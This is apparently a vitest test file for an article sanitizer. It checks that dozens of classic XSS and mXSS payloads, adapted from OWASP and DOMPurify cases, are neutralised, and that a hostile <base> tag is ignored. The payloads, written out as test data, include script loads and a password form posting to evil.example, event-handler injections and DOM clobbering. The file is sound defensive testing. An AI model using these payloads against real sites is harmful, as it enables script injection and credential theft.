/**
 * The sanitizer against a corpus of classic payloads (OWASP XSS filter-evasion cheat sheet and
 * DOMPurify's own mXSS cases, adapted): whatever goes in, what comes out has no script, no event
 * handler, no dangerous URL, no style, form, frame, SVG/MathML, id or name.
 */
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { sanitizeArticleHtml } from '../../src/core/sanitize.ts';
import { extractArticle } from '../../src/core/extract.ts';
import { pageDocument } from '../helpers/page.ts';

const doc = new JSDOM('<!doctype html><body></body>', { url: 'https://news.example/story' }).window.document;

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(1)"></img>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
  '<BODY ONLOAD=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<template><script>alert(1)</script></template>',
  '<img name="getElementById"><form id="documentElement"></form><a id="location" href="https://evil.example/">x</a>',
  '<a href="https://evil.example/" target="_top" ping="https://evil.example/ping">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<x onafterscriptexecute=alert(1)><script>1</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<p>plain <b>bold</b> and <a href="https://ok.example/page">a link</a></p>',
];

const FORBIDDEN = [/<script/i, /<style/i, /<svg/i, /<math/i, /<iframe/i, /<object/i, /<embed/i, /<form/i, /<input/i, /<button/i, /<base/i, /<meta/i, /<link/i, /<template/i, /<noscript/i, /\son[a-z]+\s*=/i, /javascript:/i, /vbscript:/i, /data:/i, /\sstyle\s*=/i, /\sid\s*=/i, /\sname\s*=/i, /\sping\s*=/i, /\starget\s*=/i, /srcdoc/i, /formaction/i, /xlink/i];

describe('sanitizeArticleHtml', () => {
  it.each(PAYLOADS)('neutralises %s', (payload) => {
    const { html, root } = sanitizeArticleHtml(payload, doc);
    for (const re of FORBIDDEN) expect(html).not.toMatch(re);
    for (const el of Array.from(root.querySelectorAll('*'))) {
      for (const attr of Array.from(el.attributes)) expect(['href', 'src', 'alt', 'title', 'width', 'height', 'colspan', 'rowspan', 'lang', 'dir', 'datetime']).toContain(attr.name);
      const url = el.getAttribute('href') ?? el.getAttribute('src');
      if (url !== null) expect(url).toMatch(/^(?:https?:|mailto:)/i);
    }
  });

  it('keeps the structure a reader needs', () => {
    const { html } = sanitizeArticleHtml('<h2>Head</h2><p>Text <em>em</em> <a href="https://ok.example/">link</a></p><ul><li>one</li></ul><blockquote><p>quote</p></blockquote><figure><img src="https://img.example/a.jpg" alt="A"><figcaption>Cap</figcaption></figure>', doc);
    expect(html).toBe('<h2>Head</h2><p>Text <em>em</em> <a href="https://ok.example/">link</a></p><ul><li>one</li></ul><blockquote><p>quote</p></blockquote><figure><img src="https://img.example/a.jpg" alt="A"><figcaption>Cap</figcaption></figure>');
  });
});

describe('extraction on hostile pages', () => {
  it('resolves relative links against the page, not a <base> pointing elsewhere', () => {
    const { doc: page, url } = pageDocument({
      head: '<base href="https://evil.example/">',
      paragraphs: [
        'The county board voted on Tuesday evening to approve a budget that adds four new positions, as the <a href="/budget/2025">full budget document</a> shows in detail for every department.',
        'Board members said the change reflected months of public comment, much of it from residents who asked for longer hours at the two public pools and better lighting on the trail.',
        'The budget now goes to the finance committee, which is expected to take it up at its next meeting in the spring, when members will also review the capital plan for roads.',
      ],
    });
    const result = extractArticle(page, url);
    expect(result.isArticle).toBe(true);
    if (!result.isArticle) return;
    expect(result.html).toContain('href="https://www.countyledger.example/budget/2025"');
    expect(result.html).not.toContain('evil.example');
  });
});
